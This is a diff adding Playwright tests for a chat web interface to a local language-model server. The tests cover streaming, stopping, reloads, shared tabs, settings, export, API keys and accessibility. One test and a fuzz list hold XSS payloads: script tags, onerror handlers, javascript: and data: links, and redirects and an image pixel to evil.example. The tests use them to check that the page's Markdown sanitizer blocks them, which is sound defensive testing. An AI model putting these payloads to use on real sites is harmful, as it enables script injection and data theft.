@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+import random
 import shutil
 import threading
 from collections.abc import Callable, Iterator, Sequence
@@ -13,6 +15,7 @@ from tests.server.conftest import Running, Start, scripted, until
 from understudy import LLM
 
 playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
+Axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe-playwright-python is not installed").Axe
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
 pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium")
 
@@ -78,9 +81,10 @@ class Tab:
         page.on("pageerror", lambda error: self.wrong.append(str(error)))
         page.on("console", lambda message: self.wrong.append(message.text) if "Security Policy" in message.text else None)
 
-    def open(self, server: Running, path: str = "/") -> Tab:
-        self.page.goto(f"{server.url}{path}")
-        self.page.wait_for_selector("#server[data-kind=ready]")
+    def open(self, server: Running, ready: bool = True) -> Tab:
+        self.page.goto(f"{server.url}/")
+        if ready:
+            self.page.wait_for_selector("#server[data-kind=ready]")
         return self
 
     def ask(self, text: str) -> None:
@@ -91,8 +95,14 @@ class Tab:
         return str(self.page.inner_text(selector))
 
     def wait(self, condition: str, *argument: Any) -> None:
-        """Wait until a condition in JavaScript is true."""
-        self.page.wait_for_function(condition, arg=argument[0] if argument else None)
+        """Wait until a condition in JavaScript is true; one with an argument is a function of it."""
+        # A plain condition would be made a function by the page, which forbids that.
+        function = condition if argument else f"() => {condition}"
+        self.page.wait_for_function(function, arg=argument[0] if argument else None)
+
+    def press_newest(self, name: str) -> None:
+        """Press the button `name` of the newest answer."""
+        self.page.locator(f".answer [aria-label='{name}']").last.click()
 
     def finished(self, count: int = 1) -> None:
         """Wait until so many answers are there and none is under way."""
@@ -109,12 +119,12 @@ Open = Callable[..., Tab]
 @pytest.fixture
 def tabs(browser: Any) -> Iterator[Open]:
     """Opens tabs; those of one test share a browser's storage. Nothing may go wrong in them, nor be asked for elsewhere."""
-    person = browser.new_context(viewport={"width": 1280, "height": 800})
+    person = browser.new_context(viewport={"width": 1100, "height": 800})
     opened: list[Tab] = []
 
-    def begin(server: Running, path: str = "/") -> Tab:
+    def begin(server: Running, ready: bool = True) -> Tab:
         opened.append(Tab(person.new_page()))
-        return opened[-1].open(server, path)
+        return opened[-1].open(server, ready)
 
     yield begin
     person.close()
@@ -146,3 +156,313 @@ def test_an_answer_streams_with_its_marks_and_ends_as_text(
     tab.finished()
     assert tab.text(".markdown").split() == [f"word{number}" for number in range(120)]
     until(lambda: not llm.scheduler.running)
+
+
+def test_stop_keeps_what_is_there_and_gives_the_place_back(
+    start: Start, tabs: Open, llm: LLM, monkeypatch: pytest.MonkeyPatch, pace: Pace
+) -> None:
+    scripted(llm, monkeypatch, words(120), ["Once more"])
+    tab = tabs(start())
+    tab.ask("Count")
+    pace.let(2)
+    tab.page.wait_for_selector(".answer .exact")
+    tab.page.keyboard.press("Escape")
+    tab.page.wait_for_selector(".answer[aria-busy=false]")
+    pace.go()
+    until(lambda: not llm.scheduler.running and not llm.scheduler.waiting)
+    assert tab.text(".note") == "Stopped." and tab.text(".markdown").startswith("word0")
+    assert tab.page.evaluate("document.activeElement.id") == "question"
+    assert "Stopped" in tab.text("#status")
+    tab.press_newest("Regenerate")
+    tab.wait("document.querySelector('.markdown')?.innerText === 'Once more'")
+    tab.finished()
+    assert tab.page.locator(".answer").count() == 1 and tab.page.locator(".note").count() == 0
+
+
+def test_a_conversation_outlives_a_reload_even_in_the_middle_of_an_answer(
+    start: Start, tabs: Open, llm: LLM, monkeypatch: pytest.MonkeyPatch, pace: Pace
+) -> None:
+    scripted(llm, monkeypatch, ["It is ", "**four**."], words(120))
+    tab = tabs(start())
+    tab.ask("Two and two?")
+    pace.let(20)
+    tab.finished()
+    tab.ask("Count")
+    pace.let(2)
+    tab.page.wait_for_selector(".answer[aria-busy=true] .exact")
+    tab.page.reload()
+    tab.page.wait_for_selector(".note")
+    pace.go()
+    assert tab.page.locator(".said").all_inner_texts() == ["Two and two?", "Count"]
+    assert tab.text(".markdown strong") == "four"
+    assert tab.text(".note") == "Stopped. Cut off when the page was left."
+    assert tab.page.locator(".markdown").last.inner_text().startswith("word0")
+    until(lambda: not llm.scheduler.running)
+    # how it came about is kept too
+    tab.press_newest("How it came about")
+    assert tab.page.locator(".answer:last-child .exact").count() > 0
+
+
+def test_two_tabs_share_conversations_and_the_passes_of_the_engine(
+    start: Start, tabs: Open, llm: LLM, monkeypatch: pytest.MonkeyPatch, pace: Pace
+) -> None:
+    scripted(llm, monkeypatch, words(120))
+    server = start()
+    one, two = tabs(server), tabs(server)
+    one.ask("First")
+    pace.let(2)
+    one.page.wait_for_selector(".answer .exact")
+    two.ask("Second")
+    # a third one beside it, in the same tab
+    two.page.click("#new")
+    two.ask("Third")
+    pace.let(4)
+    two.page.wait_for_selector(".answer .exact")
+    two.page.click("#open-engine")
+    two.wait("document.querySelectorAll('.rows .taken').length === 3")
+    names = two.page.locator(".rows .name").all_inner_texts()
+    assert sorted(names) == ["Second", "Third", "another client"]
+    assert "3 of 3 rows taken" in two.text("#batch")
+    two.page.click("#close-engine")
+    two.wait("document.querySelectorAll('#conversations button').length === 3")
+    # the one that the other tab answers is followed here, and left alone
+    two.page.get_by_role("button", name="First").click()
+    two.wait("document.querySelector('h1').innerText === 'First'")
+    two.ask("Me too")
+    assert two.text("#toast-text") == "Another tab is answering in this conversation."
+    pace.go()
+    one.finished()
+    two.finished()
+    assert two.text(".markdown") == one.text(".markdown")
+    assert two.page.locator(".said").count() == 1
+
+
+def test_a_server_that_went_and_came_back_is_found_again(
+    start: Start, tabs: Open, llm: LLM, monkeypatch: pytest.MonkeyPatch, pace: Pace
+) -> None:
+    scripted(llm, monkeypatch, words(120), ["Back again"])
+    server = start()
+    tab = tabs(server)
+    tab.ask("Count")
+    pace.let(2)
+    tab.page.wait_for_selector(".answer .exact")
+    server.kill()
+    pace.go()
+    tab.page.wait_for_selector(".note.failed")
+    assert tab.text(".note") in ("Failed. The connection broke off.", "Failed. The request was ended: it was closed.")
+    assert tab.text(".markdown").startswith("word0")
+    tab.page.wait_for_selector("#server[data-kind=down]")
+    start(port=server.port)
+    tab.page.wait_for_selector("#server[data-kind=ready]")
+    tab.press_newest("Regenerate")
+    tab.wait("document.querySelector('.markdown')?.innerText === 'Back again'")
+
+
+HOSTILE = """Before <script>window.broken = 1</script><img src=x onerror="window.broken = 2">
+<iframe srcdoc="<script>parent.broken = 3</script>"></iframe> <a href="javascript:broken=4" onclick="broken=5">raw</a>
+
+[script](javascript:window.broken=6) [coded](&#106;avascript:window.broken=7) [data](data:text/html,<script>broken=8</script>)
+[fine](https://example.org/page "title") <https://example.org/auto> ![seen](https://evil.example/pixel.png?secret)
+![x](x" onerror="window.broken=9) <svg><style><img src=x onerror=broken=10></style></svg> <form action=https://evil.example>
+
+```html"onload=alert(1)
+<script>window.broken = 11</script>
+```
+
+<style>* { display: none }</style><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">
+"""
+
+
+def test_what_a_hostile_model_writes_neither_runs_nor_asks_elsewhere(
+    start: Start, tabs: Open, llm: LLM, monkeypatch: pytest.MonkeyPatch, pace: Pace
+) -> None:
+    scripted(llm, monkeypatch, [HOSTILE[at : at + 9] for at in range(0, len(HOSTILE), 9)])
+    tab = tabs(start())
+    tab.ask("<img src=x onerror='window.broken = 0'>")
+    pace.let(2)
+    tab.page.wait_for_selector(".answer .exact")
+    assert tab.page.locator("#messages :is(script, img, iframe, svg:not(button svg), form, style, base, meta)").count() == 0
+    pace.go()
+    tab.finished()
+    tab.page.reload()
+    tab.finished()
+    assert tab.page.evaluate("window.broken") is None
+    assert tab.page.locator(".markdown :is(script, img, iframe, svg:not(button svg), form, style, base, meta)").count() == 0
+    links = tab.page.evaluate(
+        "[...document.querySelectorAll('.markdown a')].map(a => [a.innerText, a.getAttribute('href'), a.rel])"
+    )
+    safe = "noopener noreferrer nofollow"
+    assert [link for link in links if link[1]] == [
+        ["fine", "https://example.org/page", safe],
+        ["https://example.org/auto", "https://example.org/auto", safe],
+        ["seen", "https://evil.example/pixel.png?secret", safe],
+    ]
+    # what it wrote is there to be read
+    assert "<script>window.broken = 1</script>" in tab.text(".markdown") and "broken = 11" in tab.text(".markdown pre")
+    assert tab.text(".said").startswith("<img src=x") and tab.text("h1").startswith("<img src=x")
+
+
+PIECES = (
+    *("<script>", "</script>", "<img src=x onerror=broken=1>", "](javascript:broken=1)", "[a", "![", "](", "<a href='", "'>"),
+    *("`", "```", "\n", "<!--", "-->", "<svg", "<math><mtext>", "</p>", "&#x6a;", "javascript:", "&lt;", "\\", "<style>"),
+    *("<![CDATA[", "]]>", "\x00", "|-|", "* ", ">", "<template>", "<noscript>", "data:text/html,", "\u202e", " onclick="),
+    *('"', "=broken=2", "<form><input name=body>", "\t", "# ", "1. "),
+)
+
+
+def test_no_mixture_of_tags_and_marks_makes_anything_but_text_and_links(start: Start, tabs: Open) -> None:
+    tab = tabs(start())
+    drawn = random.Random(5)
+    texts = ["".join(drawn.choices(PIECES, k=drawn.randint(1, 30))) for _ in range(400)]
+    bad = tab.page.evaluate(
+        """async texts => {
+            const { rendered } = await import("./page/markdown.js");
+            const plain = new Set(("p br hr strong em del code pre blockquote ul ol li h3 h4 h5 h6 " +
+                "table thead tbody tr th td a").split(" "));
+            const fine = new Set(["href", "align", "start", "target", "rel"]);
+            return texts.filter(text => [...rendered(text).querySelectorAll("*")].some(node =>
+                !plain.has(node.localName) || [...node.attributes].some(({ name, value }) =>
+                    !fine.has(name) || (name === "href" && !/^(https?|mailto):/i.test(value)))));
+        }""",
+        texts,
+    )
+    assert bad == [] and tab.page.evaluate("window.broken") is None
+
+
+def test_editing_sampling_and_the_system_prompt_reach_the_model(
+    start: Start, tabs: Open, llm: LLM, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    asked = scripted(llm, monkeypatch, ["Fine."])
+    tab = tabs(start())
+    tab.page.click("#open-settings")
+    tab.page.fill("#system", "Answer in rhymes")
+    given = {"temperature": "0.7", "top_p": "0.9", "top_k": "30", "min_p": "0.05", "max_tokens": "50", "seed": "11"}
+    for name, value in given.items():
+        tab.page.fill(f"#{name}", value)
+    tab.page.click("#close-settings")
+    tab.ask("Fist question")
+    tab.finished()
+    tab.page.press("#question", "ArrowUp")
+    tab.page.fill(".editing textarea", "First question")
+    tab.page.press(".editing textarea", "Enter")
+    tab.wait("document.querySelector('.said')?.innerText === 'First question'")
+    tab.finished()
+    params = asked[-1]["params"]
+    assert (params.temperature, params.top_p, params.top_k, params.min_p) == (0.7, 0.9, 30, 0.05)
+    assert (params.max_new_tokens, params.seed) == (50, 11)
+    assert "Answer in rhymes" in asked[-1]["prompt"] and "First question" in asked[-1]["prompt"]
+    assert "Fist" not in asked[-1]["prompt"] and "Fine." not in asked[-1]["prompt"]
+    # a second turn brings the first answer, and a reload keeps the settings
+    tab.page.reload()
+    tab.ask("Second question")
+    tab.finished(2)
+    assert "Fine." in asked[-1]["prompt"] and asked[-1]["params"].seed == 11
+
+
+def test_a_conversation_can_be_copied_exported_and_deleted(
+    start: Start, tabs: Open, llm: LLM, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    scripted(llm, monkeypatch, ["Use `len`:\n", "```python\n", "len(x)\n", "```\n"])
+    tab = tabs(start())
+    tab.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    tab.ask("How long?")
+    tab.finished()
+    copied = "navigator.clipboard.readText()"
+    tab.page.click(".answer [aria-label=Copy]")
+    until(lambda: tab.page.evaluate(copied) == "Use `len`:\n```python\nlen(x)\n```\n")
+    tab.page.click("[aria-label='Copy code']")
+    until(lambda: tab.page.evaluate(copied) == "len(x)\n")
+    saved = {}
+    for button in ("#save-markdown", "#save-json"):
+        tab.page.click("#open-more")
+        with tab.page.expect_download() as found:
+            tab.page.click(button)
+        saved[found.value.suggested_filename] = found.value.path().read_text()
+    assert set(saved) == {"how-long.md", "how-long.json"} and "## Answer\n\nUse `len`" in saved["how-long.md"]
+    messages = json.loads(saved["how-long.json"])["messages"]
+    told = [(message["role"], message["content"][:9]) for message in messages]
+    assert told == [("user", "How long?"), ("assistant", "Use `len`")]
+    tab.page.click("#open-more")
+    tab.page.click("#delete")
+    tab.wait("document.querySelectorAll('#conversations button').length === 0")
+    tab.page.click("#undo")
+    tab.wait("document.querySelectorAll('#conversations button').length === 1")
+    assert tab.text(".markdown pre").strip() == "len(x)"
+
+
+def test_a_server_with_a_key_is_asked_with_it(start: Start, tabs: Open, llm: LLM, monkeypatch: pytest.MonkeyPatch) -> None:
+    scripted(llm, monkeypatch, ["Welcome"])
+    server = start(api_keys=("secret",))
+    tab = tabs(server, ready=False)
+    tab.page.wait_for_selector("#key-dialog[open]")
+    tab.page.fill("#key", "wrong")
+    tab.page.press("#key", "Enter")
+    tab.wait("document.querySelector('#key-note').innerText.includes('does not know')")
+    tab.page.fill("#key", "secret")
+    tab.page.press("#key", "Enter")
+    tab.page.wait_for_selector("#server[data-kind=ready]")
+    tab.ask("Hello")
+    tab.finished()
+    assert tab.text(".markdown") == "Welcome"
+    assert tab.page.evaluate("JSON.stringify(localStorage)").count("secret") == 0
+
+
+def shut_out(tab: Tab, *but: str) -> list[str]:
+    """What axe-core finds on the page as it is, `but` for some rules: rules, and the elements that break them."""
+    found = Axe().run(tab.page, options={"resultTypes": ["violations"]}).response["violations"]
+    return [f"{rule['id']}: {node['target']}" for rule in found if rule["id"] not in but for node in rule["nodes"]]
+
+
+@pytest.mark.parametrize(("scheme", "width"), [("light", 1280), ("dark", 390)])
+def test_nobody_is_shut_out(
+    start: Start, browser: Any, llm: LLM, monkeypatch: pytest.MonkeyPatch, pace: Pace, scheme: str, width: int
+) -> None:
+    """axe-core finds nothing on any view of the page, wide and narrow, light and dark."""
+    answer = "# Lists\n\n* one\n* [two](https://example.org)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode\n```\n> said `so`\n"
+    scripted(llm, monkeypatch, [answer[at : at + 2] for at in range(0, len(answer), 2)])
+    person = browser.new_context(viewport={"width": width, "height": 800}, color_scheme=scheme, reduced_motion="reduce")
+    tab = Tab(person.new_page()).open(start())
+    assert shut_out(tab) == []
+    tab.ask("What is there?")
+    pace.let(2)
+    tab.page.wait_for_selector(".answer .exact")
+    assert shut_out(tab) == []
+    pace.go()
+    tab.finished()
+    assert shut_out(tab) == []
+    # nothing is wider than the window
+    assert tab.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+    if width < 1160:
+        tab.page.click("#open-engine")
+    tab.wait("document.querySelectorAll('#plan .place').length === 2")
+    assert shut_out(tab) == []
+    if width < 1160:
+        tab.page.keyboard.press("Escape")
+    tab.page.click("#open-settings")
+    assert shut_out(tab) == []
+    tab.page.keyboard.press("Escape")
+    if width < 760:
+        tab.page.click("#open-side")
+        assert tab.page.evaluate("document.activeElement.id") == "close-side"
+        # What lies behind the list cannot be reached, the main part of the page among it.
+        assert shut_out(tab, "landmark-one-main", "page-has-heading-one") == []
+        tab.page.keyboard.press("Escape")
+        assert tab.page.evaluate("document.activeElement.id") == "open-side"
+    person.close()
+    assert tab.wrong == []
+
+
+def test_everything_can_be_reached_by_the_keyboard(start: Start, tabs: Open, llm: LLM, monkeypatch: pytest.MonkeyPatch) -> None:
+    scripted(llm, monkeypatch, ["Fine."])
+    tab = tabs(start())
+    tab.ask("Hello")
+    tab.finished()
+    reached = []
+    tab.page.evaluate("document.activeElement.blur()")
+    for _ in range(40):
+        tab.page.keyboard.press("Tab")
+        focused = "(node => node.id || node.ariaLabel || node.innerText)(document.activeElement)"
+        reached.append(tab.page.evaluate(focused))
+    wanted = {"new", "Hello", "open-settings", "open-more", "open-engine", "question", "send"}
+    wanted |= {"Edit question", "Copy", "Regenerate", "How it came about"}
+    assert wanted <= set(reached), wanted - set(reached)
